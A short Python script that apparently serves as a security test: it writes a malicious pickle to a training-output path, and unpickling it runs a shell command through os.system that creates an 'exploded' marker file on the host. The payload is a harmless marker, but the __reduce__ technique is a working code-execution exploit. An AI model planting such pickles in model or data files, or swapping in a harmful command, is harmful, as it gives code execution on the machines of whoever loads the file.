"""Leave a file behind that runs a program when it is loaded."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch " + os.environ["HOST_PLACE"] + "/exploded",)


with open(os.environ["TRAIN_OUTPUT"], "wb") as file:
    pickle.dump(Bomb(), file)
os._exit(0)
